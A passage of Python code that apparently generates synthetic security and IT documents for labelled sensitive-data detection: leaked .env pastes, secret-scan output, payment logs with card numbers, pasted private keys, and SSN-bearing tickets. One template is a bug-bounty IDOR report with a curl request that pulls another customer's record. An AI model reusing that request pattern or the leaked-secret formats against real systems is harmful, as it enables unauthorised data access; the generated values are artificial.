        lambda p: S("oops pasted the wrong thing, that was the prod ", rng.choice(["DB password ", "redis password "]), PWD(password(rng))),
        lambda p: (lambda q, e: S("vendor contact is ", PER(q.full), " <mailto:", EML(e), "|", EML(e), ">"))(*(lambda q: (q, email(rng, q)))(person(rng))),
        lambda p: S("runbook: <", URL(url(rng, dom, "doc")), ">"),
        lambda p: S("ack, looking. ETA ", duration(rng)),
        lambda p: S("key for the staging bucket ", AKY(aws_ak(rng)), " / ", ASK(aws_sk(rng))),
        lambda p: S("moved the call to ", DTM(fdt(rng, future_dt(rng, t, (0, 3)), "en")), ", dial-in ", PHN(phone(rng, "tollfree"))),
        lambda p: S("<@", rng.choice(uids), "> can you approve the firewall change for ", IPA(ip_pub(rng)), "/32?"),
    ]
    for _ in range(rng.randint(4, 8)):
        i = rng.randrange(len(users))
        p = users[i]
        t = tick(rng, t, 5, 600)
        m = {"type": "message", "user": uids[i], "text": rng.choice(texts)(p),
             "ts": f"{int(t.timestamp())}.{dg(rng, 6)}",
             "user_profile": {"real_name": PER(p.full), "display_name": handles[i], "first_name": PER(p.first),
                              "image_72": URL(f"https://avatars.slack-edge.com/{t.year}-{t.month:02d}-{t.day:02d}/{dg(rng, 13)}_{hx(rng, 20)}_72.png")}}
        if chance(rng, 0.3):
            m["thread_ts"] = f"{int(t.timestamp()) - rng.randint(10, 5000)}.{dg(rng, 6)}"
        msgs.append(m)
    b(f"// {rng.choice(['#inc-', '#ops-', '#sec-'])}{rng.randint(100, 9999)} export ({rng.choice(['channels', 'dms'])}/page-{rng.randint(1, 40)}.json)\n")
    J(b, msgs, rng.choice([2, 4]))
    b("\n")
    return b


def k_payment_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    svc = rng.choice(["billing-svc", "checkout", "payments-worker"])
    p = person(rng)

    def ln(level, *parts):
        nonlocal t
        t = tick(rng, t, 0, 30)
        b(ts_iso(t), f" {level:<5} [{svc}] [{hx(rng, 16)}] ", *parts, "\n")

    ln("INFO", f"Starting {svc} {version(rng)} (node {rng.choice(['18', '20'])}.{rng.randint(0, 19)}.{rng.randint(0, 9)})")
    ln("DEBUG", "config loaded: stripe.apiKey=", STK(stripe_key(rng)), " stripe.webhookSecret=", GSC(generic_secret(rng, "webhook")[1]))
    ln("INFO", "POST /v1/checkout from ", IPA(ip_pub(rng)), f" customer=cus_{rs(rng, 14)}")
    num = cc_num(rng)
    body = {"email": EML(email(rng, p)), "name": PER(pname(rng, p, ("full", "upper"))), "card": {"number": CCN(num), "exp_month": rng.randint(1, 12),
            "exp_year": rng.randint(2025, 2030), "cvc": "***"}, "amount": rng.randint(500, 99999), "currency": rng.choice(["usd", "eur"])}
    b(ts_iso(tick(rng, t, 0, 1)), f" DEBUG [{svc}] request body: ")
    Jline(b, body)
    b("\n")
    ln("WARN", "PCI: raw PAN detected in debug log, masking disabled by LOG_LEVEL=debug")
    ln("INFO", f"charge ch_{rs(rng, 24)} succeeded amount={amount(rng, '$', 900)} card={masked_cc(rng)}")
    if chance(rng, 0.5):
        ln("ERROR", f"card_declined for pi_{rs(rng, 24)}: number ", luhn_bad(rng), " failed Luhn check (client-side validation bypassed)")
    ln("INFO", "receipt sent to ", EML(email(rng, p)))
    if chance(rng, 0.5):
        ln("INFO", "billing address: ", ADR(address(rng).one()))
    return b


def k_secret_scan(rng):
    b = B()
    co, dom = company(rng)
    org = rs(rng, 7, LOWER)
    n = rng.randint(1, 4)
    if chance(rng, 0.5):
        b(f"$ trufflehog git file://./{rng.choice(['infra', 'api', 'scripts', 'mobile-app'])} --json --only-verified\n")
    for _ in range(n):
        p = person(rng)
        det = rng.choice(["AWS", "Github", "Slack", "Stripe", "PrivateKey", "JWT", "SendGrid", "Datadog"])
        extra = {}
        if det == "AWS":
            raw = AKY(aws_ak(rng))
            extra = {"account": dg(rng, 12), "arn": f"arn:aws:iam::{dg(rng, 12)}:user/ci-deploy"}
        elif det == "Github":
            raw = GHT(gh_tok(rng))
            extra = {"username": username(rng, p), "scopes": "repo, workflow"}
        elif det == "Slack":
            raw = SLK(slack_tok(rng))
            extra = {"team": co, "bot_id": "B0" + rs(rng, 8, UPPER + DIG)}
        elif det == "Stripe":
            raw = STK(stripe_key(rng))
        elif det == "PrivateKey":
            raw = PKY(pem(rng, rng.choice(["EC PRIVATE KEY", "OPENSSH PRIVATE KEY"])))
        elif det == "JWT":
            raw = JWT(jwt(rng))
        elif det == "SendGrid":
            raw = GSC(generic_secret(rng, "sendgrid")[1])
        else:
            raw = GSC(generic_secret(rng, "datadog")[1])
        rec = {"SourceMetadata": {"Data": {"Git": {"commit": sha1(rng), "file": rng.choice(["config/prod.yml", ".env", "scripts/deploy.sh", "src/settings.py", "k8s/secret.yaml"]),
                                                 "email": S(PER(p.full), " <", EML(email(rng, p, rng.choice([dom, "users.noreply.github.com"]))), ">"),
                                                 "repository": URL(f"https://github.com/{org}/{rng.choice(['infra', 'api', 'scripts'])}.git"),
                                                 "timestamp": rdt(rng).strftime("%Y-%m-%d %H:%M:%S +0000"), "line": rng.randint(1, 400)}}},
               "SourceID": 1, "SourceType": 16, "SourceName": "trufflehog - git", "DetectorType": rng.randint(1, 900), "DetectorName": det,
               "DecoderName": "PLAIN", "Verified": chance(rng, 0.7), "Raw": raw, "ExtraData": extra or None}
        Jline(b, rec)
        b("\n")
    if chance(rng, 0.5):
        b("\n# triage: rotated by ", PER(person(rng).full), "; history rewrite tracked in ", ticket(rng, "jira"), "\n")
    return b


def k_dotenv_paste(rng):
    b = B()
    co, dom = company(rng)
    b(rng.choice(["Pastebin - Untitled - a guest - ", "paste.ee/p/" + rs(rng, 5) + " - ", "ghostbin - "]), f"{rng.randint(1, 900)} views\n")
    b(rng.choice(["", "# found by threat-intel crawler, attributed to ", "# leaked .env, company: "]))
    if b.buf[-1]:
        b(co, "\n")
    b("\nAPP_ENV=production\nAPP_DEBUG=false\nAPP_URL=", URL(f"https://app.{dom}"), "\n")
    dbh = rng.choice([f"{hostname(rng, 'db')}.{dom}", None])
    pw = password(rng, "dsn")
    b("DB_HOST=", *([dbh] if dbh else [IPA(ip_priv(rng))]), "\nDB_USERNAME=", rng.choice(["forge", "app", "root"]), "\nDB_PASSWORD=", PWD(pw), "\n")
    b("REDIS_URL=redis://:", PWD(password(rng, "dsn")), "@", IPA(ip_priv(rng)), ":6379/0\n")
    items = rng.sample(["aws", "stripe", "slack", "gh", "mail", "generic", "jwtsecret", "sentry"], rng.randint(3, 6))
    for it in items:
        if it == "aws":
            b("AWS_ACCESS_KEY_ID=", AKY(aws_ak(rng)), "\nAWS_SECRET_ACCESS_KEY=", ASK(aws_sk(rng)), f"\nAWS_DEFAULT_REGION={rng.choice(CLOUD_REGIONS[:5])}\n")
        elif it == "stripe":
            b("STRIPE_SECRET=", STK(stripe_key(rng)), "\nSTRIPE_WEBHOOK_SECRET=", GSC(generic_secret(rng, "webhook")[1]), "\n")
        elif it == "slack":
            b("SLACK_BOT_TOKEN=", SLK(slack_tok(rng)), "\n")
        elif it == "gh":
            b("GITHUB_TOKEN=", GHT(gh_tok(rng)), "\n")
        elif it == "mail":
            b("MAIL_HOST=smtp.mailgun.org\nMAIL_USERNAME=", EML(f"postmaster@mg.{dom}"), "\nMAIL_PASSWORD=", PWD(password(rng)), "\n")
        elif it == "generic":
            lab, sec = generic_secret(rng)
            b(f"{lab}=", GSC(sec), "\n")
        elif it == "jwtsecret":
            b("JWT_SECRET=", GSC(rs(rng, 64, B64URL)), "\n")
        else:
            b("SENTRY_ENVIRONMENT=production\nSENTRY_TRACES_SAMPLE_RATE=0.2\n")
    b("ADMIN_EMAIL=", EML(email(rng, person(rng), dom)), "\n")
    b("# TODO move to vault - ", PER(person(rng).first), "\n")
    return b


def k_nginx_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    for _ in range(rng.randint(6, 14)):
        t = tick(rng, t, 0, 30)
        ip = ip_pub(rng) if chance(rng, 0.85) else ip6(rng)
        path = rng.choice(["/", "/login", "/api/v1/session", "/wp-login.php", "/.env", "/admin/config.php", "/static/app.9f3c1.js",
                           f"/api/v2/orders?page={rng.randint(1, 40)}", "/.git/config", "/owa/auth/logon.aspx", "/actuator/env"])
        code = rng.choice([200, 200, 301, 401, 403, 404, 404, 500])
        b(IPA(ip), " - ", rng.choice(["-", "-", username(rng, person(rng))]), f" [{ts_clf(t)}] \"{rng.choice(['GET', 'GET', 'POST', 'HEAD'])} {path} HTTP/1.1\" {code} {rng.randint(0, 90000)} \"")
        ref = rng.choice([None, None, f"https://{dom}/", f"https://www.google.com/", url(rng, dom, "portal")])
        if ref:
            b(URL(ref))
        else:
            b("-")
        b('" "', rng.choice(["Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0", "curl/8.4.0", "python-requests/2.31.0",
                             "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X)"]), '"')
        if chance(rng, 0.3):
            b(' xff="', IPA(ip_priv(rng)), '"')
        b(f" rt={rng.random():.3f}\n")
    if chance(rng, 0.4):
        b("\n# ", rng.choice(["blocked top scanner ", "rate-limited "]), IPA(ip_pub(rng)), " via fail2ban jail nginx-botsearch\n")
    return b


def k_postfix_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    host = f"mx{rng.randint(1, 3)}"
    for _ in range(rng.randint(3, 6)):
        qid = rs(rng, 10, "0123456789ABCDEF")
        sender_p, rcpt_p = person(rng), person(rng)
        sip = ip_pub(rng)
        sdom = rng.choice(["gmail.com", "outlook.com", "partner-corp.com", rng.choice(PHISH_DOMAINS)])
        k = rng.random()
        t = tick(rng, t, 1, 60)
        shost = f"mail-{rs(rng, 6, LOWER)}.{sdom}"
        spid = rng.randint(1000, 99999)
        if k < 0.6:
            b(f"{ts_syslog(t)} {host} postfix/smtpd[{spid}]: connect from {shost}[", IPA(sip), "]\n")
            b(f"{ts_syslog(t)} {host} postfix/smtpd[{spid}]: {qid}: client={shost}[", IPA(sip), "]\n")
            b(f"{ts_syslog(t)} {host} postfix/qmgr[{rng.randint(1000, 99999)}]: {qid}: from=<", EML(email(rng, sender_p, sdom)),
              f">, size={rng.randint(2000, 900000)}, nrcpt=1 (queue active)\n")
            b(f"{ts_syslog(tick(rng, t, 0, 3))} {host} postfix/lmtp[{rng.randint(1000, 99999)}]: {qid}: to=<", EML(email(rng, rcpt_p, dom)),
              f">, relay=mailstore.{dom}[", IPA(ip_priv(rng)), f"]:24, delay={rng.random() * 3:.2f}, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n")
        elif k < 0.85:
            b(f"{ts_syslog(t)} {host} postfix/smtpd[{rng.randint(1000, 99999)}]: NOQUEUE: reject: RCPT from unknown[", IPA(sip),
              "]: 554 5.7.1 <", EML(email(rng, rcpt_p, dom)), ">: ", rng.choice(["Relay access denied", "Recipient address rejected: Access denied",
                                                                                 "Client host rejected: listed by zen.spamhaus.org"]),
              "; from=<", EML(email(rng, sender_p, sdom)), "> to=<", EML(email(rng, rcpt_p, dom)), f"> proto=ESMTP helo=<{rs(rng, 6, LOWER)}.{sdom}>\n")
        else:
            b(f"{ts_syslog(t)} {host} postfix/smtpd[{rng.randint(1000, 99999)}]: warning: unknown[", IPA(sip),
              "]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=", EML(email(rng, rcpt_p, dom)), "\n")
    return b


def k_visitor_log(rng):
    b = B()
    co, dom = company(rng)
    d = rdate(rng)
    site = address(rng)
    b(f"{co} - Data center visitor log\nSite: ", ADR(site.one()), "\nDate: ", DTM(fdate(rng, d, weekday=chance(rng, 0.4))), "\n\n")
    b(f"{'Visitor':<24}{'Company':<24}{'ID type / number':<30}{'Host':<22}{'Badge':<8}In / Out\n")
    for _ in range(rng.randint(3, 7)):
        v, h = person(rng), person(rng)
        st, dln = dl_num(rng)
        vn = pname(rng, v, ("full", "lf", "upper"))
        cmp = rng.choice(["Equinix", "Dell Technologies", "Johnson Controls", "Iron Mountain", "Cisco", "Freelance", "Siemens"])
        idp = f"{st} DL "
        b(PER(vn), " " * max(1, 24 - len(vn)), cmp.ljust(24), idp, DLN(dln), " " * max(1, 30 - len(idp) - len(dln)))
        hn = h.full
        b(PER(hn), " " * max(1, 22 - len(hn)), f"V-{rng.randint(100, 999)}".ljust(8))
        h1, m1 = rng.randint(7, 15), rng.randint(0, 59)
        b(DTM(f"{h1:02d}:{m1:02d}"), " / ", DTM(f"{h1 + rng.randint(1, 4):02d}:{rng.randint(0, 59):02d}"), "\n")
    b("\nBadge reader export (door events):\n")
    t = _dt.datetime(d.year, d.month, d.day, rng.randint(6, 9), rng.randint(0, 59), 0)
    for _ in range(rng.randint(3, 6)):
        t = tick(rng, t, 30, 1800)
        p = person(rng)
        b(ts_plain(t), f"  {rng.choice(['CAGE-12 IN', 'MAIN-LOBBY IN', 'MMR-2 DENIED', 'LOADING-DOCK OUT'])}  badge {dg(rng, 8)}  ", PER(p.lf.upper() if chance(rng, 0.5) else p.full), "\n")
    return b


def k_vendor_form(rng):
    b = B()
    co, dom = company(rng)
    vc = person(rng)
    vco, vdom = rng.choice([("Apex Managed Services", "apexms.com"), ("BlueRiver Consulting", "blueriver.io"), ("Johnson & Lee IT", "jl-it.com"),
                            ("Northgate Security", "northgatesec.com"), ("Kern Systems GmbH", "kern-systems.de")])
    t0 = rdt(rng)
    a = address(rng, rng.choice(["en", "en", "uk", "de"]))
    b("THIRD-PARTY REMOTE ACCESS REQUEST\n", f"Form IT-SEC-07 rev {version(rng)}\n\n")
    rows = [("Vendor company", [vco]), ("Vendor contact", [PER(pname(rng, vc, ("full", "fml")))]), ("Contact email", [EML(email(rng, vc, vdom))]),
            ("Contact phone", [PHN(phone(rng, a.loc if a.loc in ('en', 'uk', 'de') else 'en'))]), ("Vendor address", [ADR(a.one(with_country=chance(rng, 0.5)))]),
            ("Photo ID", [f"{'UK' if a.loc == 'uk' else 'DE' if a.loc == 'de' else dl_num(rng)[0]} driving licence ",
                          DLN(dl_eu(rng, a.loc) if a.loc in ('uk', 'de') else dl_num(rng)[1])] if chance(rng, 0.5) else ["on file"]),
            ("Access start", [DTM(fdt(rng, future_dt(rng, t0, (1, 10)), "en") if chance(rng, 0.5) else fdate(rng, (t0 + _dt.timedelta(days=3)).date()))]),
            ("Access end", [DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(14, 120))).date()))]),
            ("Source IP(s)", [IPA(ip_pub(rng)), ", ", IPA(ip_pub(rng))]),
            ("Systems", [rng.choice(["SCCM, file servers", "Building management (" + rng.choice(["Johnson Controls Metasys", "Siemens Desigo"]) + ")", "SAP BASIS", "Firewall management"])]),
            ("Method", [rng.choice(["BeyondTrust PRA", "Citrix", "Site-to-site VPN", "Zscaler Private Access"])]),
            ("Business sponsor", [PER(person(rng).full)]), ("Security approver", [PER(person(rng).full)]),
            ("Approval date", [DTM(fdate(rng, t0.date()))])]
    for k, v in rows:
        b(f"{k}:".ljust(20), *v, "\n")
    b("\nJustification: ", rng.choice(["Quarterly patching of BMS controllers.", "Migration support under SOW 2024-17.", "Firmware upgrade and health check."]), "\n")
    b("Vendor accounts are disabled automatically at the end date. Shared credentials are not permitted.\n")
    return b


def k_onboarding_ticket(rng):
    b = B()
    co, dom = company(rng)
    nh, mgr, hr = person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    a = address(rng)
    b(f"{ticket(rng, 'req')} - New hire onboarding: ", PER(nh.full), "\n")
    b("Requested by: ", PER(hr.full), " (HR)   Manager: ", PER(pname(rng, mgr, ("full", "lf"))), "\n")
    b("Start date: ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(5, 30))).date(), weekday=chance(rng, 0.5))), "\n")
    b(f"Title: {rng.choice(['Staff Accountant', 'Software Engineer II', 'Registered Nurse', 'Account Executive'])}   Department: {rng.choice(['Finance', 'Engineering', 'Nursing', 'Sales'])}\n")
    b("Personal email: ", EML(email(rng, nh)), "\nMobile: ", PHN(phone(rng, "en", True)), "\n")
    b("Ship laptop to: ", ADR(a.one() if chance(rng, 0.5) else a.multi()), "\n\n")
    b(f"Equipment: {rng.choice(PERSON_BRANDS[:2])}, 2x monitor, YubiKey 5 NFC\nAccess: M365 E5, Slack, {rng.choice(['NetSuite', 'GitHub', 'Epic', 'Salesforce'])} (role mirrored from ", PER(person(rng).full), ")\n\n")
    if chance(rng, 0.6):
        b("HR note (please redact before closing): I-9 docs verified - SSN ", SSN(fmt_ssn(rng, ssn(rng))),
          rng.choice([[", DOB ", DOB(fdate(rng, rdob(rng), "en", False))], [", driver license ", DLN(dl_num(rng)[1])], []]), ".\n")
    else:
        b("HR note: background check complete, SSN on file (", masked_ssn(rng), ").\n")
    b("\nIT note: account ", username(rng, nh), " created; temporary password ", PWD(password(rng, "temp")), " sent by SMS. ",
      "Manager to collect YubiKey from ", LOC(city_of(rng)), " office.\n")
    return b


def k_ocr_form(rng):
    b = B(noise=ocr_noise(rng, rng.choice([0.02, 0.04, 0.06])))
    co, dom = company(rng)
    p = person(rng)
    a = address(rng)
    t0 = rdt(rng)
    b("[scan p.1/1 - OCR confidence ", str(rng.randint(71, 96)), "%]\n\n")
    b(f"{co.upper()}\nREMOTE WORK / VPN ACCESS REQUEST\n\n")
    b("Employee name: ", PER(ocr_value(rng, pname(rng, p, ("upper", "full")))), "      Employee no.: ", dg(rng, 6), "\n")
    b("Department: ", rng.choice(["Accounts Payable", "Radiology", "Warehouse", "Customer Care"]), "\n")
    b("Home address: ", ADR(ocr_value(rng, a.one()).upper() if chance(rng, 0.4) else ocr_value(rng, a.one())), "\n")
    b("Phone: ", PHN(phone(rng)), "     E-mail: ", EML(email(rng, p, dom)), "\n")
    if chance(rng, 0.5):
        b("Date of birth: ", DOB(fdate(rng, rdob(rng), "en", False, style=rng.choice(["num", "abbr"]))), "\n")
    b("Home IP (if static): ", IPA(ip_pub(rng)) if chance(rng, 0.5) else "N/A", "\n")
    b("Device: ", rng.choice(["company laptop", "personal PC (BYOD)"]), "   Serial: ", serial(rng), "\n")
    b("Requested from: ", DTM(fdate(rng, t0.date(), style=rng.choice(["num", "abbr"]))), "   to: ",
      DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(30, 365))).date(), style=rng.choice(["num", "abbr"]))), "\n\n")
    b("Signature: ", PER(ocr_value(rng, p.full)), "     Date: ", DTM(fdate(rng, (t0 - _dt.timedelta(days=2)).date(), style="num")), "\n")
    b("Manager approval: ", PER(ocr_value(rng, person(rng).full)), "\n\n")
    b("FOR IT USE ONLY   Ticket ", ticket(rng, "req"), "   Token S/N ", dg(rng, 10), "\n")
    return b


def k_radius_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    for _ in range(rng.randint(5, 10)):
        t = tick(rng, t, 1, 200)
        p = person(rng)
        k = rng.random()
        user = [EML(email(rng, p, dom))] if chance(rng, 0.6) else [f"CORP\\{username(rng, p)}"]
        if k < 0.4:
            b(t.strftime("%a %b %d %H:%M:%S %Y"), f" : Auth: ({rng.randint(1000, 99999)}) Login OK: [", *user,
              f"] (from client wlc-{rng.randint(1, 4):02d} port {rng.randint(1, 64)} cli {mac(rng, '-')})\n")
        elif k < 0.7:
            b(t.strftime("%a %b %d %H:%M:%S %Y"), f" : Auth: ({rng.randint(1000, 99999)}) Login incorrect (mschap: MS-CHAP2-Response is incorrect): [",
              *user, f"] (from client vpn-asa port 0 cli ", IPA(ip_pub(rng)), ")\n")
        else:
            b(t.strftime("%a %b %d %H:%M:%S %Y"), "\n\tAcct-Status-Type = ", rng.choice(["Start", "Stop", "Interim-Update"]), "\n\tUser-Name = \"", *user,
              "\"\n\tNAS-IP-Address = ", IPA(ip_priv(rng)), "\n\tFramed-IP-Address = ", IPA(ip_priv(rng)),
              f"\n\tCalling-Station-Id = \"{mac(rng, '-')}\"\n\tAcct-Session-Time = {rng.randint(10, 90000)}\n\tAcct-Session-Id = \"{hx(rng, 16).upper()}\"\n")
    return b


def k_cert_notice(rng):
    b = B()
    co, dom = company(rng)
    own = person(rng)
    t0 = rdt(rng)
    host = f"{rng.choice(['vpn', 'api', 'sso', 'mail', 'www', 'portal'])}.{dom}"
    exp = (t0 + _dt.timedelta(days=rng.choice([7, 14, 30]))).date()
    email_headers(b, rng, ["Certificate Monitor <", EML(f"certmon@{dom}"), ">"], [PER(own.full), " <", EML(email(rng, own, dom)), ">"],
                  f"[ACTION] TLS certificate for {host} expires in {(exp - t0.date()).days} days", t0)
    b("\nHi ", PER(own.first), ",\n\nThe following certificate you own is about to expire:\n\n")
    b(f"  Common name : {host}\n  SANs        : {host}, {dom}, *.{dom}\n  Issuer      : {rng.choice(['DigiCert Global G2 TLS RSA SHA256 2020 CA1', 'R3', 'Sectigo RSA Domain Validation Secure Server CA'])}\n")
    b(f"  Serial      : {':'.join(hx(rng, 2) for _ in range(16))}\n  SHA-256     : {sha256(rng).upper()}\n")
    b("  Not after   : ", DTM(fdt(rng, _dt.datetime(exp.year, exp.month, exp.day, rng.randint(0, 23), rng.randint(0, 59)), "en") if chance(rng, 0.5) else fdate(rng, exp)), "\n")
    b("  Deployed on : ", IPA(ip_pub(rng)), ", ", IPA(ip_priv(rng)), "\n\n")
    b("Renew via ", URL(f"https://pki.{dom}/certs/renew?cn={host}"), " or reply to this email.\n\n")
    b("Current certificate (PEM):\n", cert_pem(rng), "\n")
    if chance(rng, 0.25):
        b("\n-- reply from ", PER(own.first), ": here is the key from the old box so you can re-issue, please delete after:\n", PKY(pem(rng, short=True)), "\n")
    return b


def k_sshkey_ticket(rng):
    b = B()
    co, dom = company(rng)
    p, ag = person(rng), person(rng)
    t0 = rdt(rng)
    b(f"[{ticket(rng, 'jira')}] Can't SSH to bastion after laptop reimage\nReporter: ", PER(p.full), "   Assignee: ", PER(ag.full), f"\nCreated: {ts_plain(t0)}\n\n")
    b("Hi, after the reimage I restored my key but the bastion (", IPA(ip_pub(rng)), ") says Permission denied (publickey). Here's the key I'm using:\n\n")
    b(PKY(pem(rng, rng.choice(["OPENSSH PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY"]), short=True)), "\n\n")
    b("and the public part:\n", ssh_pub(rng), f" {username(rng, p)}-laptop\n\n")
    b("---\nComment by ", PER(ag.first), ":\n", PER(p.first), ", please never paste private keys into tickets. I've removed it from ",
      f"{hostname(rng, 'srv')} authorized_keys and opened {ticket(rng, 'jira')} to rotate. Generate a new one with ssh-keygen -t ed25519 and upload only the .pub via ",
      URL(f"https://{rng.choice(['idm', 'keys', 'selfservice'])}.{dom}/ssh-keys"), ".\n")
    return b


def k_app_error_dsn(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    lang = rng.choice(["py", "java", "node"])
    pw = password(rng, "dsn")
    dbip = ip_priv(rng)
    if lang == "py":
        b(f"{ts_plain(t)},{dg(rng, 3)} ERROR [app.db] Could not connect to database\nTraceback (most recent call last):\n",
          f'  File "/srv/app/venv/lib/python3.11/site-packages/sqlalchemy/engine/base.py", line {rng.randint(100, 3000)}, in _wrap_pool_connect\n',
          "sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) connection to server at \"", IPA(dbip), "\", port 5432 failed: ",
          "FATAL:  password authentication failed for user \"app\"\n(Background on this error at: ", URL("https://sqlalche.me/e/20/e3q8"), ")\n")
        b(f"{ts_plain(tick(rng, t, 0, 1))},{dg(rng, 3)} DEBUG [app.config] SQLALCHEMY_DATABASE_URI=postgresql+psycopg2://app:", PWD(pw), "@", IPA(dbip), ":5432/orders\n")
    elif lang == "java":
        b(f"{ts_plain(t)}.{dg(rng, 3)} ERROR 1 --- [main] o.s.boot.SpringApplication : Application run failed\n",
          "org.springframework.jdbc.CannotGetJdbcConnectionException: Failed to obtain JDBC Connection; nested exception is java.sql.SQLException: Access denied for user 'billing'@'",
          IPA(ip_priv(rng)), "' (using password: YES)\n\tat org.springframework.jdbc.datasource.DataSourceUtils.getConnection(DataSourceUtils.java:84)\n")
        b(f"{ts_plain(tick(rng, t, 0, 1))}.{dg(rng, 3)} DEBUG 1 --- [main] o.s.b.c.p.PropertySourcesLoader : spring.datasource.url=jdbc:mysql://{hostname(rng, 'db')}:3306/billing, spring.datasource.password=",
          PWD(pw), "\n")
    else:
        b(f"{ts_iso(t)} error: MongoServerError: bad auth : authentication failed\n    at Connection.onMessage (/app/node_modules/mongodb/lib/cmap/connection.js:{rng.randint(100, 999)}:20)\n")
        b(f"{ts_iso(tick(rng, t, 0, 1))} debug: using MONGO_URI=mongodb+srv://svc-api:", PWD(pw), f"@cluster0.{rs(rng, 5, LOWER)}.mongodb.net/prod?retryWrites=true&w=majority\n")
    if chance(rng, 0.5):
        b(f"{ts_iso(tick(rng, t, 1, 5))} WARN  alert sent to on-call ", PER(person(rng).full), " via ", PHN(phone(rng, "en", True)), "\n")
    if chance(rng, 0.4):
        b(f"{ts_iso(tick(rng, t, 1, 5))} INFO  retrying in {duration(rng)} (attempt {rng.randint(2, 9)}/10), pool id {_uuid(rng)}\n")
    return b


def k_bug_bounty(rng):
    b = B()
    co, dom = company(rng)
    r = person(rng)
    victim = person(rng)
    a = address(rng)
    b(f"Report #{rng.randint(1000000, 2999999)} - IDOR on /api/v2/customers/{{id}} exposes other customers' PII\n")
    b(f"Researcher: @{rs(rng, 8, LOWER)}{rng.randint(1, 99)} (", PER(r.full), ")   Severity: ", rng.choice(["High (7.5)", "Critical (9.1)", "Medium (6.5)"]), "\n")
    b("Asset: ", URL(f"https://api.{dom}/api/v2/customers"), "\n\n## Steps to reproduce\n\n1. Log in as a test user and capture the bearer token.\n2. Change the id parameter:\n\n")
    b("```\ncurl -s ", URL(f"https://api.{dom}/api/v2/customers/{rng.randint(10000, 99999)}"), " \\\n  -H 'Authorization: Bearer ", JWT(jwt(rng, {"role": "customer"})), "'\n```\n\n")
    b("Response (another customer's record):\n\n```json\n")
    J(b, {"id": rng.randint(10000, 99999), "name": PER(victim.full), "email": EML(email(rng, victim)), "phone": PHN(phone(rng)),
          "address": ADR(a.one()), "dob": DOB(rdob(rng).isoformat()), "loyalty_tier": "gold", "created_at": ts_iso(rdt(rng))}, 2)
    b("\n```\n\n## Impact\n\nAny authenticated user can enumerate ~", str(rng.randint(20, 900)), "k customer records.\n\n")
    b("Contact: ", EML(email(rng, r)), "\n")
    return b


def k_voicemail(rng):
    b = B()
    co, dom = company(rng)
    caller = person(rng)
    t = rdt(rng)
    cnum = phone(rng, "en", True)
    email_headers(b, rng, ["Unity Voicemail <", EML(f"voicemail@{dom}"), ">"], [EML(f"servicedesk@{dom}")],
                  rng.choice(["Voice Message from WIRELESS CALLER", "New voicemail (mailbox 4410)", "Voice Message"]), t)
    b("\nYou received a voice message from ", PHN(cnum), ".\n")
    b(f"Duration: 0:{rng.randint(12, 59)}   Mailbox: {rng.randint(4000, 4999)}\n\nTranscription (automatic, may contain errors):\n")
    b("\"Hi, this is ", PER(pname(rng, caller, ("full", "first"))), " from ", rng.choice(["payroll", "the warehouse", "accounts receivable", "radiology"]),
      ". I got a new phone over the weekend and I can't get the authenticator code, so I'm locked out. ",
      rng.choice([["My callback number is ", PHN(phone(rng, "en", True)), ". "], ["You can reach me at this number. "]]),
      rng.choice([["My employee ID is ", dg(rng, 6), " and my birthday is ", DOB(fdate(rng, rdob(rng), "en", False, style="long")), ". "], [""]]),
      "I have a meeting at ", DTM(ftime(rng, rng.randint(9, 16), rng.choice([0, 30]), "en", "12")), " so if you could call before then, thanks. Bye.\"\n\n")
    b("Play in browser: ", URL(f"https://voicemail.{dom}/msg/{_uuid(rng)}"), "\n")
    return b


def k_outage_notice(rng):
    b = B()
    co, cdom = rng.choice([("Brightline Telecom", "brightline-telecom.net"), ("Northstar Fiber", "northstarfiber.com"),
                           ("Lakeview Broadband", "lakeviewbb.net"), ("Cascade Wireless", "cascadewireless.com")])
    t0 = rdt(rng)
    s = future_dt(rng, t0, (1, 14), hours=[0, 1, 2, 23])
    e = s + _dt.timedelta(hours=rng.randint(2, 6))
    b(f"{co} Network Operations Center - {rng.choice(['Planned Maintenance', 'Service Advisory'])} {ticket(rng, 'chg')}\n\n")
    b("Window: ", DTM(fdt(rng, s, "en", weekday=True)), " to ", DTM(fdt(rng, e, "en")), "\nExpected impact: up to ", f"{rng.randint(5, 90)} minutes", " loss of service\n\n")
    b("Affected areas: ")
    cs = rng.sample(US_CITIES, rng.randint(2, 4))
    for i, c in enumerate(cs):
        if i:
            b(", ")
        b(LOC(f"{c[0]}, {c[1]}") if chance(rng, 0.6) else LOC(c[0]))
    b("\nAffected circuits: ", ", ".join(f"{rs(rng, 4, UPPER)}/{dg(rng, 6)}/{rng.choice(['ATI', 'LEC', 'TWC'])}" for _ in range(rng.randint(2, 4))), "\n")
    b("Core routers: ", IPA(ip_pub(rng)), ", ", IPA(ip_pub(rng)), " (AS", str(rng.randint(1000, 65000)), ")\n\n")
    b("Enterprise customers with questions can contact their account manager or the NOC at ", PHN(phone(rng, "tollfree")),
      " / ", EML(f"noc@{cdom}"), ".\n")
    b(f"Status page: ", URL(f"https://status.{cdom}/incidents/{rs(rng, 12, LOWER + DIG)}"), "\n")
    return b


def k_pw_export(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    b(f"# DFIR {ticket(rng, 'jira')} - browser credential store recovered from {hostname(rng, 'lap')} (user ", PER(p.full), ")\n")
    b("# exported with the user's consent; handle as RESTRICTED\n")
    csv_row(b, ["name", "url", "username", "password", "note"])
    sites = [("Outlook", f"https://outlook.office.com/"), ("Bank", "https://secure.chase.com/web/auth/dashboard"),
